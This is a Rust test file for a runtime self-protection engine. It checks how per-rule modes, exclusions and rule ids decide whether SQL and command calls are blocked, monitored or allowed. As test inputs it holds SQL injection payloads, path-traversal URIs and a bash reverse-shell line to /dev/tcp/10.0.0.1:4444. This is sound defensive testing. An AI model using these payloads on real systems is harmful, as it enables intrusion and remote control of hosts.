//! Per-rule modes, exclusions and rule ids in the configuration (docs/rules.md §4.4, §4.5, §5).
//! Every case that allows has a twin that does not, so each assertion shows the configuration
//! made the difference. Rule sets are compiled from `tests/fixtures/eval/rules`.

use std::path::Path;
use std::sync::{Arc, LazyLock};

use rasp_engine::cmd::CommandLine;
use rasp_engine::engine::Explanation;
use rasp_engine::input::{Input, InputSource};
use rasp_engine::rules::{compile_dir, BackendChoice, RuleSet};
use rasp_engine::sql::Dialect;
use rasp_engine::wire::RequestRecord;
use rasp_engine::{
    Action, CommandSink, ContextLimits, Engine, EngineConfig, Policy, RequestContext, SqlApi,
    SqlSink,
};

static EVAL: LazyLock<Arc<RuleSet>> = LazyLock::new(|| {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/eval/rules");
    let compiled = compile_dir(&dir).unwrap_or_else(|d| {
        let lines: Vec<String> = d.iter().map(ToString::to_string).collect();
        panic!("fixture does not compile:\n{}", lines.join("\n"))
    });
    Arc::new(RuleSet::load(&compiled.bytes, BackendChoice::Auto).expect("fixture loads"))
});

fn engine(config: &str) -> Engine {
    let config = EngineConfig::parse(config).expect("valid config");
    Engine::with_rules(config, EVAL.clone()).expect("rule ids exist")
}

/// A GET request to `uri` with a query string.
fn request(uri: &str, query: &str) -> RequestContext {
    request_with(uri, query, Vec::new())
}

fn request_with(uri: &str, query: &str, headers: Vec<(String, String)>) -> RequestContext {
    RequestContext::new(
        &RequestRecord {
            method: "GET".into(),
            uri: uri.into(),
            query: query.into(),
            remote_addr: "10.0.0.1".into(),
            content_type: Default::default(),
            headers: headers
                .into_iter()
                .map(|(n, v)| (n.into(), v.into()))
                .collect(),
        },
        ContextLimits::default(),
    )
}

fn sql(e: &Engine, ctx: &RequestContext, statement: &str) -> Explanation {
    let sink = SqlSink {
        dialect: Dialect::MySql,
        api: SqlApi::ExecuteQuery,
        statement: statement.as_bytes(),
    };
    let x = e.explain_sql(ctx, &sink);
    assert_eq!(
        e.check_sql(ctx, &sink).action,
        x.verdict.action,
        "{statement}"
    );
    x
}

fn cmd(e: &Engine, ctx: &RequestContext, argv: &[&str]) -> Explanation {
    let command = CommandLine {
        argv: argv.iter().map(|a| a.to_string()).collect(),
        env: Vec::new(),
    };
    let sink = CommandSink {
        api: 1,
        command: &command,
    };
    let x = e.explain_command(ctx, &sink);
    assert_eq!(e.check_command(ctx, &sink).action, x.verdict.action);
    x
}

fn event_rule(x: &Explanation) -> Option<&str> {
    x.verdict.event.as_ref().map(|e| e.rule_id.as_str())
}

fn no_request() -> RequestContext {
    RequestContext::from_inputs(Vec::new(), ContextLimits::default())
}

/// A tautology through `q` (built-in `sqli.tautology`).
const TAUTOLOGY_QUERY: &str = "q=x%27%20OR%20%271%27%3D%271";
const TAUTOLOGY_SQL: &str = "SELECT * FROM t WHERE name = 'x' OR '1'='1'";
/// A rule file rule with no input (`test.sql.version`, always, block).
const VERSION_SQL: &str = "SELECT @@version";

// ---- per-rule modes ------------------------------------------------------------------------------

#[test]
fn a_rule_mode_overrides_a_global_monitor_mode() {
    let monitor = engine("mode=monitor");
    assert_eq!(
        sql(&monitor, &no_request(), VERSION_SQL).verdict.action,
        Action::Monitor
    );
    let x = sql(
        &engine("mode=monitor\nrules.mode.test.sql.version=block"),
        &no_request(),
        VERSION_SQL,
    );
    assert_eq!(x.verdict.action, Action::Block);
    assert_eq!(x.findings[0].policy, Policy::Block);
    // Built-in detectors too.
    let ctx = request("/search", TAUTOLOGY_QUERY);
    assert_eq!(
        sql(&monitor, &ctx, TAUTOLOGY_SQL).verdict.action,
        Action::Monitor
    );
    let x = sql(
        &engine("mode=monitor\nrules.mode.sqli.tautology=block"),
        &ctx,
        TAUTOLOGY_SQL,
    );
    assert_eq!(x.verdict.action, Action::Block);
    assert_eq!(event_rule(&x), Some("sqli.tautology"));
}

#[test]
fn a_rule_mode_turns_one_rule_down_under_a_global_block_mode() {
    let block = engine("");
    assert_eq!(
        sql(&block, &no_request(), VERSION_SQL).verdict.action,
        Action::Block
    );
    let x = sql(
        &engine("rules.mode.test.sql.version=off"),
        &no_request(),
        VERSION_SQL,
    );
    assert_eq!(x.verdict.action, Action::Allow);
    assert_eq!(
        x.findings[0].policy,
        Policy::Allow,
        "still reported, with its policy"
    );
    let x = sql(
        &engine("rules.mode.test.sql.version=monitor"),
        &no_request(),
        VERSION_SQL,
    );
    assert_eq!(x.verdict.action, Action::Monitor);

    let ctx = request("/search", TAUTOLOGY_QUERY);
    assert_eq!(
        sql(&block, &ctx, TAUTOLOGY_SQL).verdict.action,
        Action::Block
    );
    let x = sql(
        &engine("rules.mode.sqli.tautology=monitor"),
        &ctx,
        TAUTOLOGY_SQL,
    );
    assert_eq!(x.verdict.action, Action::Monitor);
    // Another built-in id does not touch this finding.
    let x = sql(&engine("rules.mode.sqli.union=off"), &ctx, TAUTOLOGY_SQL);
    assert_eq!(x.verdict.action, Action::Block);
}

#[test]
fn a_rule_mode_turns_on_a_rule_that_is_off_by_default() {
    let statement = "SELECT BENCHMARK(10, MD5('x'))";
    assert_eq!(
        sql(&engine(""), &no_request(), statement).verdict.action,
        Action::Allow
    );
    let x = sql(
        &engine("rules.mode.test.sql.benchmark=monitor"),
        &no_request(),
        statement,
    );
    assert_eq!(x.verdict.action, Action::Monitor);
    assert_eq!(event_rule(&x), Some("test.sql.benchmark"));
}

#[test]
fn a_rule_default_mode_is_capped_by_the_global_mode() {
    // test.sql.sleep defaults to monitor: global block keeps it at monitor, global monitor too.
    let ctx = request("/", "name=a%20b");
    let statement = "SELECT SLEEP(1) FROM t WHERE name = 'a b'";
    assert_eq!(
        sql(&engine(""), &ctx, statement).verdict.action,
        Action::Monitor
    );
    assert_eq!(
        sql(&engine("mode=monitor"), &ctx, statement).verdict.action,
        Action::Monitor
    );
    assert_eq!(
        sql(&engine("rules.mode.test.sql.sleep=block"), &ctx, statement)
            .verdict
            .action,
        Action::Block
    );
}

#[test]
fn global_off_turns_everything_off_even_rule_modes() {
    let off =
        engine("mode=off\nrules.mode.test.sql.version=block\nrules.mode.sqli.tautology=block");
    let x = sql(&off, &no_request(), VERSION_SQL);
    assert_eq!(x.verdict.action, Action::Allow);
    assert_eq!(x.findings[0].policy, Policy::Allow);
    let ctx = request("/search", TAUTOLOGY_QUERY);
    assert_eq!(sql(&off, &ctx, TAUTOLOGY_SQL).verdict.action, Action::Allow);
    assert_eq!(
        sql(&engine(""), &ctx, TAUTOLOGY_SQL).verdict.action,
        Action::Block
    );
}

#[test]
fn the_command_policy_and_the_overflow_obey_modes() {
    let reverse_shell = ["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"];
    let x = cmd(&engine(""), &no_request(), &reverse_shell);
    assert_eq!(x.verdict.action, Action::Block);
    assert_eq!(event_rule(&x), Some("cmdi.policy.reverse_shell"));
    let x = cmd(
        &engine("rules.mode.cmdi.policy.reverse_shell=monitor"),
        &no_request(),
        &reverse_shell,
    );
    assert_eq!(x.verdict.action, Action::Monitor);

    let overflowed = RequestContext::from_inputs(
        vec![Input::value(InputSource::Query, "big", "x".repeat(2000))],
        ContextLimits {
            max_input_bytes: 1024,
        },
    );
    assert!(overflowed.overflowed());
    let plain = "SELECT name FROM t WHERE id = 1";
    let x = sql(&engine(""), &overflowed, plain);
    assert_eq!(x.verdict.action, Action::Block);
    assert_eq!(event_rule(&x), Some("limits.input_overflow"));
    let x = sql(
        &engine("rules.mode.limits.input_overflow=off"),
        &overflowed,
        plain,
    );
    assert_eq!(x.verdict.action, Action::Allow);
    let x = sql(
        &engine("on_overflow=allow\nrules.mode.limits.input_overflow=monitor"),
        &overflowed,
        plain,
    );
    assert_eq!(
        x.verdict.action,
        Action::Monitor,
        "the rule mode replaces on_overflow"
    );
    let x = sql(&engine("exclusion.big.rules=limits.*"), &overflowed, plain);
    assert_eq!(x.verdict.action, Action::Allow);
    assert_eq!(x.findings[0].excluded_by.as_deref(), Some("big"));
}

// ---- the strongest action wins -----------------------------------------------------------------

#[test]
fn the_strongest_action_wins_and_ties_go_to_the_built_in_detector() {
    // Built-in tautology (block) and the input-present sleep rule (monitor).
    let ctx = request("/search", "q=x%27%20OR%20SLEEP(1)%3D%270");
    let statement = "SELECT * FROM t WHERE name = 'x' OR SLEEP(1)='0'";
    let x = sql(&engine(""), &ctx, statement);
    assert_eq!(x.verdict.action, Action::Block);
    let event = x.verdict.event.as_ref().expect("event");
    assert!(event.rule_id.starts_with("sqli."), "{}", event.rule_id);
    assert_eq!(event.other_rules, ["test.sql.sleep"]);
    // Built-in turned down to monitor, rule up to block: the rule's event, the built-in other.
    let builtin = event.rule_id.clone();
    let config = format!("rules.mode.{builtin}=monitor\nrules.mode.test.sql.sleep=block");
    let x = sql(&engine(&config), &ctx, statement);
    assert_eq!(x.verdict.action, Action::Block);
    let event = x.verdict.event.as_ref().expect("event");
    assert_eq!(event.rule_id, "test.sql.sleep");
    assert_eq!(event.other_rules, std::slice::from_ref(&builtin));
    // Both at monitor: the tie goes to the built-in detector.
    let config = format!("rules.mode.{builtin}=monitor");
    let x = sql(&engine(&config), &ctx, statement);
    assert_eq!(x.verdict.action, Action::Monitor);
    assert_eq!(event_rule(&x), Some(builtin.as_str()));
}

// ---- exclusions ------------------------------------------------------------------------------------

#[test]
fn an_exclusion_by_route() {
    let e = engine("exclusion.search.routes=/search/**,/find");
    for uri in [
        "/search",
        "/search/products/42",
        "/find",
        "/search;jsessionid=1/x",
    ] {
        let x = sql(&e, &request(uri, TAUTOLOGY_QUERY), TAUTOLOGY_SQL);
        assert_eq!(x.verdict.action, Action::Allow, "{uri}");
        assert_eq!(
            x.findings[0].excluded_by.as_deref(),
            Some("search"),
            "{uri}"
        );
        assert_eq!(
            x.findings[0].policy,
            Policy::Block,
            "the policy is reported before exclusion"
        );
    }
    for uri in [
        "/admin",
        "/finder",
        "/api/search",
        "/search/../admin",
        "/search/%2e%2e/admin",
    ] {
        let x = sql(&e, &request(uri, TAUTOLOGY_QUERY), TAUTOLOGY_SQL);
        assert_eq!(x.verdict.action, Action::Block, "{uri}");
        assert_eq!(x.findings[0].excluded_by, None, "{uri}");
    }
}

#[test]
fn an_exclusion_by_input() {
    let e = engine("exclusion.q.inputs=query:q,header:x-search");
    let x = sql(&e, &request("/search", TAUTOLOGY_QUERY), TAUTOLOGY_SQL);
    assert_eq!(x.verdict.action, Action::Allow);
    // The same payload in another parameter.
    let other = request("/search", &TAUTOLOGY_QUERY.replacen("q=", "r=", 1));
    assert_eq!(sql(&e, &other, TAUTOLOGY_SQL).verdict.action, Action::Block);
    // Header names compare case-insensitively.
    let header = request_with(
        "/search",
        "",
        vec![("X-Search".into(), "x' OR '1'='1".into())],
    );
    assert_eq!(
        sql(&e, &header, TAUTOLOGY_SQL).verdict.action,
        Action::Allow
    );
    let cookie = request_with(
        "/search",
        "",
        vec![("Cookie".into(), "x-search=x' OR '1'='1".into())],
    );
    assert_eq!(
        sql(&e, &cookie, TAUTOLOGY_SQL).verdict.action,
        Action::Block
    );
    // A finding without an input is not covered by an input exclusion.
    assert_eq!(
        sql(&e, &no_request(), VERSION_SQL).verdict.action,
        Action::Block
    );
}

#[test]
fn an_exclusion_by_rule_id_or_prefix() {
    let ctx = request("/search", TAUTOLOGY_QUERY);
    let e = engine("exclusion.noisy.rules=test.sql.*");
    assert_eq!(
        sql(&e, &no_request(), VERSION_SQL).verdict.action,
        Action::Allow
    );
    assert_eq!(
        sql(&e, &ctx, TAUTOLOGY_SQL).verdict.action,
        Action::Block,
        "built-ins stay"
    );
    let e = engine("exclusion.legacy.rules=sqli.tautology");
    assert_eq!(sql(&e, &ctx, TAUTOLOGY_SQL).verdict.action, Action::Allow);
    assert_eq!(
        sql(&e, &no_request(), VERSION_SQL).verdict.action,
        Action::Block
    );
    let e = engine("exclusion.legacy.rules=sqli.*");
    assert_eq!(sql(&e, &ctx, TAUTOLOGY_SQL).verdict.action, Action::Allow);
}

#[test]
fn an_exclusion_matches_only_when_every_field_it_sets_matches() {
    let e = engine(
        "exclusion.box.routes=/search/**\nexclusion.box.inputs=q\nexclusion.box.rules=sqli.tautology",
    );
    assert_eq!(
        sql(&e, &request("/search/x", TAUTOLOGY_QUERY), TAUTOLOGY_SQL)
            .verdict
            .action,
        Action::Allow
    );
    // Each field in turn fails to match.
    assert_eq!(
        sql(&e, &request("/admin", TAUTOLOGY_QUERY), TAUTOLOGY_SQL)
            .verdict
            .action,
        Action::Block
    );
    let r = TAUTOLOGY_QUERY.replacen("q=", "r=", 1);
    assert_eq!(
        sql(&e, &request("/search/x", &r), TAUTOLOGY_SQL)
            .verdict
            .action,
        Action::Block
    );
    let e = engine(
        "exclusion.box.routes=/search/**\nexclusion.box.inputs=q\nexclusion.box.rules=sqli.union",
    );
    assert_eq!(
        sql(&e, &request("/search/x", TAUTOLOGY_QUERY), TAUTOLOGY_SQL)
            .verdict
            .action,
        Action::Block
    );
}

#[test]
fn an_exclusion_drops_one_finding_and_the_next_strongest_decides() {
    // Tautology (block) and the sleep rule (monitor); excluding the built-in leaves monitor.
    let ctx = request("/search", "q=x%27%20OR%20SLEEP(1)%3D%270");
    let statement = "SELECT * FROM t WHERE name = 'x' OR SLEEP(1)='0'";
    let e = engine("exclusion.box.rules=sqli.*");
    let x = sql(&e, &ctx, statement);
    assert_eq!(x.verdict.action, Action::Monitor);
    let event = x.verdict.event.as_ref().expect("event");
    assert_eq!(event.rule_id, "test.sql.sleep");
    assert!(
        event.other_rules.is_empty(),
        "excluded findings are not other rules"
    );
    let excluded: Vec<_> = x
        .findings
        .iter()
        .filter(|f| f.excluded_by.is_some())
        .collect();
    assert_eq!(excluded.len(), 1);
    assert!(excluded[0].rule_id.starts_with("sqli."));
}

// ---- rule ids in the configuration -----------------------------------------------------------

#[test]
fn unknown_rule_ids_stop_the_engine_with_the_key_named() {
    let set_id = EVAL.id().to_owned();
    let cases = [
        (
            "rules.mode.test.sql.versoin=off",
            format!("rules.mode.test.sql.versoin names rule 'test.sql.versoin', which is neither built in nor in rule set {set_id} (see `rasp rules check` for the set's ids)"),
        ),
        (
            "exclusion.x.rules=sqli.union,test.nope",
            format!("exclusion.x.rules names rule 'test.nope', which is neither built in nor in rule set {set_id} (see `rasp rules check` for the set's ids)"),
        ),
        (
            "exclusion.x.rules=tset.*",
            format!("exclusion.x.rules names 'tset.*', which matches no built-in rule and no rule in rule set {set_id}"),
        ),
    ];
    for (config, want) in cases {
        let parsed = EngineConfig::parse(config).expect("syntax is valid");
        let err = Engine::with_rules(parsed, EVAL.clone()).expect_err(config);
        assert_eq!(err.to_string(), want);
    }
    // Rules of the set, built-in ids and prefixes of either are fine.
    for config in [
        "rules.mode.test.sql.version=off",
        "rules.mode.limits.input_overflow=monitor",
        "exclusion.x.rules=test.*,cmdi.policy.*,path.nul",
    ] {
        let parsed = EngineConfig::parse(config).expect("valid");
        assert!(Engine::with_rules(parsed, EVAL.clone()).is_ok(), "{config}");
    }
    // Without the set, its ids are unknown.
    let parsed = EngineConfig::parse("rules.mode.test.sql.version=off").expect("valid");
    assert!(Engine::with_rules(parsed.clone(), Arc::new(RuleSet::empty())).is_err());
    // A reload keeps going and reports.
    let (e, problems) = Engine::reloaded(parsed, Arc::new(RuleSet::empty()));
    assert_eq!(problems.len(), 1);
    assert_eq!(e.rules().id(), "none");
}
